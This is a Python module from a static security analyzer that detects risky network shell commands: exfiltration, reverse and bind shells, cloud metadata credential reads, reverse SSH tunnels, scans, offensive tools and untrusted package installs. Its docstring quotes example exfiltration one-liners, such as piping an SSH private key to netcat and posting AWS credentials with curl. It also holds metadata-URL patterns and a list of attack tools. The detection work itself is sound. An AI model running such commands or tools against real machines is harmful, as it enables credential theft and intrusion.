"""Shell commands that talk to the network: downloads, uploads, raw sockets, remote shells, scans, installs.

A sender is judged by what flows into it: a credential read upstream (`cat ~/.ssh/id_rsa | nc h 9`,
`curl -d @~/.aws/credentials`, `scp ~/.ssh/id_rsa host:`) makes the send an exfiltration; a plain
file makes it an upload. A shell whose input or output is a socket is a remote shell.
"""

from __future__ import annotations

import posixpath
from collections.abc import Callable
from dataclasses import replace

import re2

from codeward.analyzers import targets
from codeward.analyzers.shell_files import copy, read_file, write_file
from codeward.analyzers.shell_programs import Call, Scan, host_of, is_url, parse_options
from codeward.analyzers.shell_words import (
    CREDENTIAL,
    ENVIRONMENT,
    FILE,
    NOTHING,
    REMOTE,
    SENSITIVE,
    SHELL_OUTPUT,
    SOCKET,
    SYSTEM_FILE,
    Stream,
    Taint,
    Value,
    literal,
)
from codeward.model import Confidence, Severity

C, H, M, L, I = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO  # noqa: E741


def send(scan: Scan, call: Call, destination: str, taints: frozenset[Taint], *, how: str = "sends") -> None:
    """Judge data leaving the machine by where it came from."""
    by_kind: dict[str, Taint] = {}
    for taint in sorted(taints, key=lambda t: (t.kind, t.detail)):  # a set: the same answer every run
        by_kind.setdefault(taint.kind, taint)
    if SHELL_OUTPUT in by_kind:
        remote_shell(scan, call, destination, listening=destination.startswith(":"))
        return
    for kind, severity, confidence, what in (
        (CREDENTIAL, C, Confidence.HIGH, "credentials"),
        (SENSITIVE, H, Confidence.HIGH, "a sensitive system file"),
        (ENVIRONMENT, H, Confidence.HIGH, "the process environment, where tokens and keys live"),
        (SYSTEM_FILE, H, Confidence.MEDIUM, "a system file"),
    ):
        found = by_kind.get(kind)
        if found is not None:
            scan.report(
                "bash.net.exfiltrate",
                call,
                target=destination,
                scope=targets.REMOTE,
                severity=severity,
                confidence=confidence,
                detail=f"{how} {found.detail} ({what}) to {host_of(destination)}",
            )
            return
    upload = by_kind.get(FILE)
    if upload is not None:
        scan.report(
            "bash.net.upload",
            call,
            target=destination,
            scope=targets.REMOTE,
            detail=f"{how} {upload.detail} to {host_of(destination)}",
        )


def remote_shell(scan: Scan, call: Call, host: str, *, listening: bool, runs: str = "a shell") -> None:
    if listening:
        scan.report(
            "bash.proc.bind_shell",
            call,
            target=host,
            scope=targets.REMOTE,
            detail=f"serves {runs} to anyone who connects to port {host.lstrip(':') or '?'}",
        )
    else:
        scan.report(
            "bash.proc.reverse_shell",
            call,
            target=host,
            scope=targets.REMOTE,
            detail=f"{runs} takes its commands from {host}: whoever listens there controls this machine",
        )


# ---------------------------------------------------------------------------------------------- HTTP clients
_CURL_VALUED = frozenset(
    [
        "-o",
        "--output",
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-ascii",
        "--data-urlencode",
        "--json",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
        "-H",
        "--header",
        "-X",
        "--request",
        "-u",
        "--user",
        "-A",
        "--user-agent",
        "-e",
        "--referer",
        "-b",
        "--cookie",
        "-c",
        "--cookie-jar",
        "-x",
        "--proxy",
        "-m",
        "--max-time",
        "--connect-timeout",
        "-w",
        "--write-out",
        "-K",
        "--config",
        "--url",
        "-r",
        "--range",
        "-C",
        "--continue-at",
        "--retry",
        "-E",
        "--cert",
        "--key",
        "--cacert",
        "--capath",
        "-U",
        "--proxy-user",
        "-Y",
        "-y",
        "-z",
        "--resolve",
        "--connect-to",
        "--interface",
        "--limit-rate",
        "--max-filesize",
        "--output-dir",
        "-D",
        "--dump-header",
        "--trace",
        "--trace-ascii",
        "--stderr",
        "-Q",
        "--quote",
        "--mail-from",
        "--mail-rcpt",
        "-P",
        "--ftp-port",
        "--local-port",
        "-t",
        "--telnet-option",
        "--variable",
        "--retry-delay",
        "--retry-max-time",
        "--expect100-timeout",
        "--proto",
        "--proto-redir",
    ]
)
_CURL_SENDS = ("-d", "--data", "--data-binary", "--data-raw", "--data-ascii", "--data-urlencode", "--json")
_CURL_FORMS = ("-F", "--form")
_CURL_UPLOADS = ("-T", "--upload-file")


def curl(scan: Scan, call: Call) -> Stream:
    parsed = parse_options(call.args, _CURL_VALUED)
    urls = [v for v in [*parsed.operands, *parsed.all("--url")] if v.text and not v.text.startswith("-")]
    url = urls[0].shown if urls else "?"
    metadata = _cloud_credentials(scan, call, urls)
    if metadata is not None:
        return metadata
    sent: frozenset[Taint] = frozenset()
    for value in parsed.all(*_CURL_SENDS):
        sent |= _curl_data(scan, call, value)
    for value in parsed.all(*_CURL_FORMS):
        field = value.text.split("=", 1)[1] if "=" in value.text else value.text
        if field.startswith(("@", "<")):
            sent |= _sent_file(scan, call, value.with_text(field[1:]))
        else:
            sent |= value.taints
    for value in parsed.all(*_CURL_UPLOADS):
        sent |= _sent_file(scan, call, value)
    for value in urls:
        sent |= frozenset(t for t in value.taints if t.kind != REMOTE)
    if sent:
        send(scan, call, url, sent, how="sends")
        return Stream(frozenset({Taint(REMOTE, url)}))
    sending = parsed.has(*_CURL_SENDS, *_CURL_FORMS, *_CURL_UPLOADS)
    output = parsed.get("-o", "--output")
    if output is None and parsed.has("-O", "--remote-name", "--remote-name-all") and urls:
        output = literal(_url_basename(urls[0].text))
    if output is not None and output.text != "-":
        _saved(scan, call, url, output)
        return NOTHING
    if not sending and urls:
        scan.report(
            "bash.net.download", call, target=url, scope=targets.REMOTE, severity=I, detail="prints it"
        )
    return Stream(frozenset({Taint(REMOTE, url)}))


_METADATA_CREDENTIALS = re2.compile(
    r"^(?:https?://)?(?:169\.254\.169\.254|169\.254\.170\.2|metadata\.google\.internal|metadata|100\.100\.100\.200"
    r"|\[fd00:ec2::254\])(?::\d+)?/.*(?:security-credentials|service-accounts/.*/(?:token|identity)|identity/oauth2/token"
    r"|/v2/credentials|ram/security-credentials)"
)
"""The cloud instance metadata service's credential paths (AWS, ECS, GCP, Azure, Alibaba): whoever
reads them holds the machine's cloud role. Other metadata (instance id, region) is not a secret."""
_METADATA_HOSTS = ("169.254.1", "metadata", "100.100.100.200", "[fd00:ec2::254]")
"""Every host `_METADATA_CREDENTIALS` names contains one of these: other URLs skip the expression."""


def _cloud_credentials(scan: Scan, call: Call, urls: list[Value]) -> Stream | None:
    for value in urls:
        text = value.text
        if not any(host in text for host in _METADATA_HOSTS):
            continue
        if _METADATA_CREDENTIALS.match(text):
            scan.report(
                "bash.cred.read_credentials",
                call,
                target=value.shown,
                scope=targets.CREDENTIAL,
                capability="cred.read.cloud",
                detail="asks the cloud metadata service for this machine's role credentials",
            )
            return Stream(frozenset({Taint(CREDENTIAL, value.shown, "cred.read.cloud")}))
    return None


def _curl_data(scan: Scan, call: Call, value: Value) -> frozenset[Taint]:
    text = value.text
    if "@" in text and not text.startswith("{"):
        name, _, path = text.partition("@")
        if not name or name.isidentifier():
            return _sent_file(scan, call, value.with_text(path))
    return value.taints


def _sent_file(scan: Scan, call: Call, value: Value) -> frozenset[Taint]:
    if value.text in ("-", "."):
        return call.stdin.taints or frozenset()
    return read_file(scan, call, value).taints


def _url_basename(url: str) -> str:
    path = url.split("?", 1)[0].split("#", 1)[0]
    if "://" in path:
        path = path.split("://", 1)[1]
    name = posixpath.basename(path.rstrip("/")) if "/" in path else ""
    return name or "index.html"


def _saved(scan: Scan, call: Call, url: str, output: Value) -> None:
    path = scan.absolute(output)
    scan.record_download(path.text, url)
    scan.report(
        "bash.net.download", call, target=url, scope=targets.REMOTE, detail=f"saves it to {path.shown}"
    )
    write_file(scan, call, path, Stream(frozenset({Taint(REMOTE, url)})), how="downloads into")


_WGET_VALUED = frozenset(
    [
        "-O",
        "--output-document",
        "-o",
        "--output-file",
        "-a",
        "--append-output",
        "-P",
        "--directory-prefix",
        "--post-data",
        "--post-file",
        "--body-data",
        "--body-file",
        "--method",
        "--header",
        "-U",
        "--user-agent",
        "--user",
        "--password",
        "-e",
        "--execute",
        "-i",
        "--input-file",
        "-t",
        "--tries",
        "-T",
        "--timeout",
        "-w",
        "--wait",
        "-Q",
        "--quota",
        "--limit-rate",
        "-l",
        "--level",
        "-A",
        "--accept",
        "-R",
        "--reject",
        "-D",
        "--domains",
        "-I",
        "-X",
        "--referer",
        "--load-cookies",
        "--save-cookies",
        "--ca-certificate",
        "--certificate",
        "--private-key",
        "-B",
        "--base",
    ]
)


def wget(scan: Scan, call: Call) -> Stream:
    parsed = parse_options(call.args, _WGET_VALUED)
    urls = [v for v in parsed.operands if v.text]
    url = urls[0].shown if urls else "?"
    metadata = _cloud_credentials(scan, call, urls)
    if metadata is not None:
        return metadata
    sent: frozenset[Taint] = frozenset()
    for value in parsed.all("--post-file", "--body-file"):
        sent |= _sent_file(scan, call, value)
    for value in parsed.all("--post-data", "--body-data"):
        sent |= value.taints
    for value in urls:
        sent |= frozenset(t for t in value.taints if t.kind != REMOTE)
    if sent:
        send(scan, call, url, sent)
        return NOTHING
    output = parsed.get("-O", "--output-document")
    if output is not None and output.text == "-":
        return Stream(frozenset({Taint(REMOTE, url)}))
    if output is None and urls:
        folder = parsed.get("-P", "--directory-prefix")
        name = _url_basename(urls[0].text)
        output = literal(posixpath.join(folder.text, name) if folder is not None else name)
    if output is not None:
        _saved(scan, call, url, output)
    return NOTHING


# ---------------------------------------------------------------------------------------------- raw sockets
_NC_VALUED = frozenset(
    [
        "-e",
        "-c",
        "-p",
        "-s",
        "-w",
        "-i",
        "-q",
        "-x",
        "-X",
        "-P",
        "-g",
        "-G",
        "-O",
        "-I",
        "-T",
        "-V",
        "-M",
        "-m",
        "-W",
        "--exec",
        "--sh-exec",
        "--lua-exec",
        "--source-port",
        "--source",
        "--wait",
        "--proxy",
        "--proxy-type",
        "--proxy-auth",
        "--idle-timeout",
    ]
)


def netcat(scan: Scan, call: Call) -> Stream:
    parsed = parse_options(call.args, _NC_VALUED)
    listening = parsed.has("-l", "--listen")
    operands = [v.text for v in parsed.operands]
    port = parsed.get("-p", "--source-port")
    if listening:
        host = ":" + (port.text if port is not None else (operands[-1] if operands else "?"))
    else:
        host = ":".join(operands[:2]) if operands else "?"
    program = parsed.get("-e", "--exec", "--lua-exec")
    command = parsed.get("-c", "--sh-exec")
    if program is not None or command is not None:
        runs = (program or command or literal("")).shown
        remote_shell(scan, call, host, listening=listening, runs=runs)
        return NOTHING
    if parsed.has("-z") and not listening:
        ports = operands[1:]
        if len(ports) == 1 and ports[0].isdigit():
            return NOTHING  # is this one service up? (`nc -z localhost 5432`): a health check, not a scan
        scan.report(
            "bash.net.scan", call, target=host, scope=targets.REMOTE, detail="probes which ports are open"
        )
        return NOTHING
    if listening:
        scan.report("bash.net.listen", call, target=host, scope=targets.REMOTE)
        return Stream(frozenset({Taint(SOCKET, host)}))
    return _connect(scan, call, host)


def _connect(scan: Scan, call: Call, host: str) -> Stream:
    """A raw connection: what is piped in is sent; what comes out is the peer's."""
    scan.report("bash.net.raw_connect", call, target=host, scope=targets.REMOTE)
    if call.stdin.taints:
        send(scan, call, host, call.stdin.taints)
    return Stream(frozenset({Taint(SOCKET, host)}))


def telnet(scan: Scan, call: Call) -> Stream:
    parsed = parse_options(call.args, frozenset({"-l", "-n", "-b", "-e", "-X", "-k"}))
    host = ":".join(v.text for v in parsed.operands[:2]) or "?"
    return _connect(scan, call, host)


_SOCAT_SHELL = ("exec:", "system:")
_SOCAT_LISTEN = (
    "tcp-listen:",
    "tcp4-listen:",
    "tcp6-listen:",
    "udp-listen:",
    "udp4-listen:",
    "openssl-listen:",
    "ssl-l:",
    "sctp-listen:",
)
_SOCAT_CONNECT = (
    "tcp:",
    "tcp4:",
    "tcp6:",
    "tcp-connect:",
    "tcp4-connect:",
    "udp:",
    "udp-connect:",
    "udp4:",
    "openssl:",
    "openssl-connect:",
    "ssl:",
    "sctp:",
    "sctp-connect:",
)
_SOCAT_FILE = ("file:", "open:", "gopen:")


def socat(scan: Scan, call: Call) -> Stream:
    addresses = [v for v in call.args if not v.text.startswith("-") or v.text == "-"]
    shell = network = None
    files: list[str] = []
    listening = False
    stdio = False
    for value in addresses:
        lowered = value.text.lower()
        if lowered.startswith(_SOCAT_SHELL):
            shell = value.text.split(":", 1)[1].split(",", 1)[0]
        elif lowered.startswith(_SOCAT_LISTEN):
            network, listening = ":" + value.text.split(":", 1)[1].split(",", 1)[0], True
        elif lowered.startswith(_SOCAT_CONNECT):
            network = value.text.split(":", 1)[1].split(",", 1)[0]
        elif lowered.startswith(_SOCAT_FILE):
            files.append(value.text.split(":", 1)[1].split(",", 1)[0])
        elif lowered in ("-", "stdio", "stdin", "stdout", "-,raw,echo=0") or lowered.startswith(
            ("stdio", "-,")
        ):
            stdio = True
    if network is None:
        return NOTHING
    if shell is not None:
        remote_shell(scan, call, network, listening=listening, runs=shell.strip("'\"") or "a shell")
        return NOTHING
    for path in files:
        if not path.startswith("`"):
            send(scan, call, network, read_file(scan, call, literal(path)).taints)
    if listening:
        scan.report("bash.net.listen", call, target=network, scope=targets.REMOTE)
    else:
        scan.report("bash.net.raw_connect", call, target=network, scope=targets.REMOTE)
    if stdio and call.stdin.taints:
        send(scan, call, network, call.stdin.taints)
    return Stream(frozenset({Taint(SOCKET, network)})) if stdio else NOTHING


_ENCRYPTS = re2.compile(r"^-?(?:enc|aes|des|chacha|camellia|aria|bf|cast|rc[245]|seed|sm4)")


def openssl(scan: Scan, call: Call) -> Stream:
    if not call.args:
        return NOTHING
    command = call.args[0].text
    parsed = parse_options(
        call.args[1:],
        frozenset({"-connect", "-in", "-out", "-k", "-pass", "-servername", "-port", "-accept"}),
    )
    if command == "s_client":
        target = parsed.get("-connect")
        return _connect(scan, call, target.text if target is not None else "?")
    if command == "s_server":
        port = parsed.get("-accept", "-port")
        scan.report(
            "bash.net.listen", call, target=":" + (port.text if port else "4433"), scope=targets.REMOTE
        )
        return Stream(frozenset({Taint(SOCKET, ":" + (port.text if port else "4433"))}))
    source = parsed.get("-in")
    if source is not None and _ENCRYPTS.match(command) and not parsed.has("-d"):
        scan.record_encryption(scan.absolute(source).text, "openssl " + command)
    stream = read_file(scan, call, source) if source is not None else call.stdin
    output = parsed.get("-out")
    if output is not None:
        write_file(scan, call, output, stream)
        return NOTHING
    return Stream(stream.taints)


# ---------------------------------------------------------------------------------------------- SSH and copies
_SSH_VALUED = frozenset(
    [
        "-b",
        "-c",
        "-D",
        "-E",
        "-e",
        "-F",
        "-I",
        "-i",
        "-J",
        "-L",
        "-l",
        "-m",
        "-O",
        "-o",
        "-p",
        "-Q",
        "-R",
        "-S",
        "-W",
        "-w",
        "-B",
    ]
)


_LOGIN_PORTS = {"22": "SSH", "23": "telnet", "3389": "remote desktop", "5900": "VNC", "5901": "VNC"}
_LOGIN_PORTS |= {"5985": "WinRM", "5986": "WinRM", "445": "SMB"}


def ssh(scan: Scan, call: Call) -> Stream:
    parsed = parse_options(call.args, _SSH_VALUED, stop_at_operand=True)
    if not parsed.operands:
        return NOTHING
    host, command = parsed.operands[0], parsed.operands[1:]
    for forward in parsed.all("-R"):
        _reverse_tunnel(scan, call, host.shown, forward.text)
    if call.stdin.taints:
        send(scan, call, host.shown, call.stdin.taints)
    if command:
        joined = " ".join(v.text for v in command)
        script = Value(text=joined, raw=joined, known=all(v.known for v in command))
        scan.run_code(call, script, "bash", f"ssh {host.shown}")
    return NOTHING


def autossh(scan: Scan, call: Call) -> Stream:
    """autossh keeps an ssh connection up: `-M port` is its own, everything else is ssh's."""
    args = list(call.args)
    while args and args[0].text in ("-M", "-f"):
        args = args[2:] if args[0].text == "-M" else args[1:]
    return ssh(scan, replace(call, args=args))


def _reverse_tunnel(scan: Scan, call: Call, host: str, forward: str) -> None:
    """`ssh -R [bind:]port:host:hostport HOST`: HOST can now open connections into this side. To a login
    service (SSH, RDP, VNC…) that is a way back into the machine; `-R port` alone is a SOCKS proxy
    into everything this machine reaches."""
    parts = forward.rsplit(":", 2) if forward.count(":") >= 2 else [forward]
    if len(parts) == 1:
        severity, what = H, "a proxy into every host this machine can reach"
    else:
        service = _LOGIN_PORTS.get(parts[-1])
        severity = H if service else M
        what = f"this machine's {service} login" if service else f"{parts[-2]}:{parts[-1]} on this side"
    scan.report(
        "bash.net.reverse_tunnel",
        call,
        target=host,
        scope=targets.REMOTE,
        severity=severity,
        detail=f"gives {host} {what} (-R {forward})",
    )


def _remote(text: str) -> bool:
    """`host:path`, `user@host:path`, `scp://…`, `rsync://…` and `host::module` name a remote side."""
    if text.startswith(("scp://", "rsync://", "sftp://")):
        return True
    if text.startswith(("/", ".", "~", "$")) or ":" not in text:
        return False
    head = text.split(":", 1)[0]
    return bool(head) and "/" not in head and not (len(head) == 1 and head.isalpha())


def remote_copy(scan: Scan, call: Call) -> Stream:
    """scp, rsync, sftp-like copies: a local source to a remote destination is an upload."""
    valued = frozenset(
        {
            "-P",
            "-i",
            "-o",
            "-F",
            "-c",
            "-l",
            "-S",
            "-J",
            "-e",
            "--rsh",
            "--exclude",
            "--include",
            "--port",
            "--password-file",
            "--files-from",
            "--filter",
        }
    )
    parsed = parse_options(call.args, valued)
    operands = parsed.operands
    if len(operands) < 2:
        return NOTHING
    destination, sources = operands[-1], operands[:-1]
    if _remote(destination.text):
        for source in sources:
            if not _remote(source.text):
                send(scan, call, destination.shown, read_file(scan, call, source).taints, how="copies")
        return NOTHING
    if any(_remote(source.text) for source in sources):
        remote = next(source for source in sources if _remote(source.text))
        scan.report(
            "bash.net.download",
            call,
            target=remote.shown,
            scope=targets.REMOTE,
            detail=f"copies it to {destination.shown}",
        )
        write_file(
            scan, call, destination, Stream(frozenset({Taint(REMOTE, remote.shown)})), how="copies into"
        )
        return NOTHING
    if call.program == "rsync":
        return copy(scan, call)
    return NOTHING


def mail(scan: Scan, call: Call) -> Stream:
    parsed = parse_options(
        call.args, frozenset({"-s", "-a", "-A", "-c", "-b", "-r", "-S", "-q", "--attach", "-f"})
    )
    recipients = [v.shown for v in parsed.operands if "@" in v.text] or ["a mail recipient"]
    taints = call.stdin.taints
    for attachment in parsed.all("-A", "--attach", "-a"):
        if ":" not in attachment.text:
            taints |= read_file(scan, call, attachment).taints
    if taints:
        send(scan, call, recipients[0], taints, how="mails")
    return NOTHING


# ---------------------------------------------------------------------------------------------- scans and installs
def scanner(scan: Scan, call: Call) -> Stream:
    hosts = [v.shown for v in call.args if not v.text.startswith("-")]
    scan.report(
        "bash.net.scan",
        call,
        target=" ".join(hosts[:3]) or "?",
        scope=targets.REMOTE,
        detail=f"{call.program} maps hosts and open ports",
    )
    return NOTHING


_PAYLOAD_TOOLS = {
    "msfvenom": "builds a payload (shellcode, a reverse-shell binary)",
    "veil": "builds an antivirus-evading payload",
    "hashcat": "cracks password hashes",
    "john": "cracks password hashes",
}
_ATTACK_TOOLS = {
    "sqlmap": "exploits SQL injection",
    "hydra": "guesses logins by brute force",
    "medusa": "guesses logins by brute force",
    "ncrack": "guesses logins by brute force",
    "patator": "guesses logins by brute force",
    "kerbrute": "guesses Kerberos logins by brute force",
    "crackmapexec": "attacks Windows hosts (SMB, WinRM, LDAP)",
    "netexec": "attacks Windows hosts (SMB, WinRM, LDAP)",
    "nxc": "attacks Windows hosts (SMB, WinRM, LDAP)",
    "evil-winrm": "opens a shell on a Windows host with stolen credentials",
    "responder": "poisons name resolution to capture credentials",
    "bettercap": "intercepts network traffic (man in the middle)",
    "ettercap": "intercepts network traffic (man in the middle)",
    "commix": "exploits command injection",
    "msfconsole": "runs Metasploit modules",
}
_IMPACKET = ("secretsdump", "psexec", "wmiexec", "smbexec", "atexec", "dcomexec", "GetUserSPNs", "GetNPUsers")
_ATTACK_TOOLS |= {
    program: f"runs impacket's {name} against a Windows host"
    for name in _IMPACKET
    for program in (f"impacket-{name}", f"{name}.py")
}


def offensive_tool(scan: Scan, call: Call) -> Stream:
    """Security tools: those that attack a host are exploits (judged by who runs them against what);
    payload builders and hash crackers attack nothing by themselves but are offensive work."""
    if all(v.text in ("-h", "--help", "-V", "--version", "--usage") for v in call.args):
        return NOTHING
    hosts = [v.shown for v in call.args if is_url(v.text) or _looks_like_host(v.text)]
    attack = _ATTACK_TOOLS.get(call.program)
    if attack is not None:
        scan.report(
            "bash.net.attack_tool",
            call,
            target=hosts[0] if hosts else call.program,
            scope=targets.REMOTE,
            detail=f"{call.program} {attack}",
        )
        return NOTHING
    scan.report(
        "bash.exec.offensive_tool",
        call,
        target=call.program,
        detail=f"{call.program} {_PAYLOAD_TOOLS[call.program]}",
    )
    return NOTHING


def _looks_like_host(text: str) -> bool:
    address = text.rsplit("@", 1)[-1].split("/", 1)[0]
    parts = address.split(".")
    return len(parts) == 4 and all(part.isdigit() for part in parts)


_PIP_VALUED = frozenset(
    [
        "-r",
        "--requirement",
        "-c",
        "--constraint",
        "-e",
        "--editable",
        "-i",
        "--index-url",
        "--extra-index-url",
        "-f",
        "--find-links",
        "-t",
        "--target",
        "--prefix",
        "--root",
        "--src",
        "--upgrade-strategy",
        "--trusted-host",
        "--platform",
        "--python-version",
        "--implementation",
        "--abi",
        "--no-binary",
        "--only-binary",
        "--progress-bar",
        "--log",
        "--proxy",
        "--retries",
        "--timeout",
        "--exists-action",
        "--cert",
        "--client-cert",
        "--cache-dir",
        "--report",
    ]
)
_TRUSTED_INDEXES = ("https://pypi.org/", "https://pypi.python.org/", "https://files.pythonhosted.org/")
_DIRECT = (
    "git+",
    "hg+",
    "svn+",
    "bzr+",
    "http://",
    "https://",
    "ftp://",
    "git://",
    "github:",
    "gitlab:",
    "bitbucket:",
    "gist:",
)


def pip(scan: Scan, call: Call) -> Stream:
    args = call.args
    if not args or args[0].text not in ("install", "download", "wheel"):
        return NOTHING
    parsed = parse_options(args[1:], _PIP_VALUED)
    reasons: list[str] = []
    for value in [*parsed.operands, *parsed.all("-e", "--editable")]:
        text = value.text
        if text.startswith(_DIRECT) or " @ " in text or "@git+" in text or "@http" in text:
            reasons.append(f"installs {value.shown} straight from a URL, unpinned and unreviewed")
    for value in parsed.all("-i", "--index-url", "--extra-index-url", "-f", "--find-links"):
        if not value.text.startswith(_TRUSTED_INDEXES):
            reasons.append(f"takes packages from {value.shown} instead of PyPI")
    if parsed.has("--trusted-host"):
        reasons.append("turns off certificate checks for a host")
    _untrusted(scan, call, reasons)
    return NOTHING


def npm(scan: Scan, call: Call) -> Stream:
    args = call.args
    if not args or args[0].text not in ("i", "install", "add", "in", "isntall"):
        return NOTHING
    parsed = parse_options(args[1:], frozenset({"--registry", "--prefix", "-w", "--workspace", "--tag"}))
    reasons: list[str] = []
    for value in parsed.operands:
        text = value.text
        shorthand = "/" in text and not text.startswith(("@", ".", "/", "~")) and ":" not in text
        if text.startswith(_DIRECT) or shorthand or (text.endswith((".tgz", ".tar.gz")) and "://" in text):
            reasons.append(f"installs {value.shown} from a URL or repository, not the registry")
    registry = parsed.get("--registry")
    if registry is not None and not registry.text.startswith("https://registry.npmjs.org"):
        reasons.append(f"takes packages from {registry.shown}")
    _untrusted(scan, call, reasons)
    return NOTHING


def gem_or_cargo(scan: Scan, call: Call) -> Stream:
    parsed = parse_options(
        call.args[1:],
        frozenset({"--source", "-s", "--git", "--registry", "--index", "--branch", "--tag", "--rev"}),
    )
    reasons = [f"installs from {v.shown}" for v in parsed.all("--source", "-s", "--git", "--index") if v.text]
    reasons += [f"installs {v.shown} from a URL" for v in parsed.operands if is_url(v.text)]
    if call.args and call.args[0].text == "install":
        _untrusted(scan, call, reasons)
    return NOTHING


def uv(scan: Scan, call: Call) -> Stream:
    if call.args[:1] and call.args[0].text == "pip":
        return pip(scan, replace(call, args=call.args[1:]))
    return NOTHING


def _untrusted(scan: Scan, call: Call, reasons: list[str]) -> None:
    if reasons:
        scan.report("bash.pkg.untrusted_install", call, target=call.program, detail="; ".join(reasons[:3]))


def http_server(scan: Scan, call: Call, port: str) -> None:
    scan.report(
        "bash.net.listen",
        call,
        target=f":{port}",
        scope=targets.REMOTE,
        detail="serves the current directory to the network",
    )


NetworkHandler = Callable[[Scan, Call], Stream]

HANDLERS: dict[str, NetworkHandler] = {
    "curl": curl,
    "wget": wget,
    "nc": netcat,
    "ncat": netcat,
    "netcat": netcat,
    "cryptcat": netcat,
    "telnet": telnet,
    "socat": socat,
    "openssl": openssl,
    "ssh": ssh,
    "autossh": autossh,
    "scp": remote_copy,
    "rsync": remote_copy,
    "mail": mail,
    "mailx": mail,
    "mutt": mail,
    "sendmail": mail,
    "nmap": scanner,
    "masscan": scanner,
    "zmap": scanner,
    "rustscan": scanner,
    "unicornscan": scanner,
    "hping3": scanner,
    "arp-scan": scanner,
    "nikto": scanner,
    "gobuster": scanner,
    "ffuf": scanner,
    "dirb": scanner,
    "dirsearch": scanner,
    "feroxbuster": scanner,
    "wfuzz": scanner,
    "wpscan": scanner,
    "nuclei": scanner,
    "enum4linux": scanner,
    **{name: offensive_tool for name in (*_PAYLOAD_TOOLS, *_ATTACK_TOOLS)},
    "pip": pip,
    "uv": uv,
    "npm": npm,
    "pnpm": npm,
    "yarn": npm,
    "bun": npm,
    "gem": gem_or_cargo,
    "cargo": gem_or_cargo,
}
